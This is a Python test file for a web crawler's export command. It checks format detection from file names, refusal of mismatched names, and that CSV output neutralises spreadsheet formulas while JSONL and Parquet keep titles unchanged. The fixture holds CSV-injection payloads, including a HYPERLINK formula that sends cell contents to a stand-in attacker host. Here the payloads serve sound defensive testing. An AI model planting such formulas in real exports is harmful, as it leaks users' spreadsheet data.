"""Output files as a user names them: the format follows the name, disagreements are refused in one
line (exit 2), and CSV is safe to open in a spreadsheet while JSONL and Parquet keep the text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from archive_items import article_item, write_run
from click.testing import CliRunner

from csto_crawler.cli import ExitCode, main
from csto_crawler.cli.outputs import OutputFormat, format_of_name

# Titles a hostile page could carry (CSV injection), as the archive stores them.
HOSTILE = {
    "1": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "2": "+7 (495) 606-97-58 Секретариат",
    "3": "-1+1",
    "4": "@SUM(A1:A9)",
    "5": "\t=1+1 after a tab",
    "6": " =2+2 after a space",
}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("outputs") / "csto.sqlite"
    write_run(path, [article_item(f"a{eid}", element_id=eid, title=title) for eid, title in HOSTILE.items()])
    return path


def run(archive: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["export", "--archive", str(archive), *args])
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("a.jsonl", OutputFormat.JSONL),
        ("A.CSV", OutputFormat.CSV),
        ("a.parquet", OutputFormat.PARQUET),
        ("c.warc.gz", OutputFormat.WARC_GZ),
        ("c.warc", OutputFormat.WARC),
        ("r.html", OutputFormat.HTML),
        ("notes", None),
    ],
)
def test_format_of_name(name: str, fmt: OutputFormat | None) -> None:
    assert format_of_name(Path(name)) is fmt


def test_export_csv_by_name_has_a_bom_and_neutralised_formulas(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    code, _, stderr = run(archive, "-o", str(out))
    assert code == 0, stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,")
    titles = {r["id"]: r["title"] for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))}
    assert titles == {f"en-{eid}": "'" + title for eid, title in HOSTILE.items()}


def test_export_jsonl_and_parquet_by_name_keep_the_text(archive: Path, tmp_path: Path) -> None:
    assert run(archive, "-o", str(tmp_path / "a.jsonl"))[0] == 0
    assert run(archive, "-o", str(tmp_path / "a.parquet"))[0] == 0
    lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["title"] for line in lines} == set(HOSTILE.values())
    assert set(pq.read_table(tmp_path / "a.parquet").column("title").to_pylist()) == set(HOSTILE.values())


@pytest.mark.parametrize(
    "args",
    [
        ["--format", "csv", "-o", "a.parquet"],
        ["--format", "jsonl", "-o", "a.csv"],
        ["-o", "a.xlsx"],
        ["-o", "a.warc.gz"],
    ],
)
def test_export_refuses_a_name_that_says_another_format(archive: Path, tmp_path: Path, args: list[str]) -> None:
    args = [str(tmp_path / a) if a.startswith("a.") else a for a in args]
    code, stdout, stderr = run(archive, *args)
    assert code == ExitCode.USAGE
    assert len(stderr.strip().splitlines()) == 1 and stderr.startswith("csto: error: "), stderr
    assert stdout == "" and not list(tmp_path.iterdir())


def test_export_format_given_for_a_name_without_ending(archive: Path, tmp_path: Path) -> None:
    assert run(archive, "--format", "csv", "-o", str(tmp_path / "articles"))[0] == 0
    assert (tmp_path / "articles").read_bytes().startswith(b"\xef\xbb\xbf")


def test_export_to_a_database_that_is_not_postgresql_is_a_bad_argument(archive: Path) -> None:
    code, _, stderr = run(archive, "--to", "mysql://me@dbhost/csto")
    assert code == ExitCode.USAGE
    assert len(stderr.strip().splitlines()) == 1 and "PostgreSQL URL" in stderr


@pytest.mark.parametrize(
    ("command", "name"), [(["warc", "export"], "c.jsonl"), (["warc", "export"], "c"), (["report"], "r.csv")]
)
def test_other_outputs_refuse_names_of_another_format(
    archive: Path, tmp_path: Path, command: list[str], name: str
) -> None:
    result = CliRunner().invoke(main, [*command, "--archive", str(archive), "-o", str(tmp_path / name)])
    assert result.exit_code == ExitCode.USAGE, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    assert not list(tmp_path.iterdir())
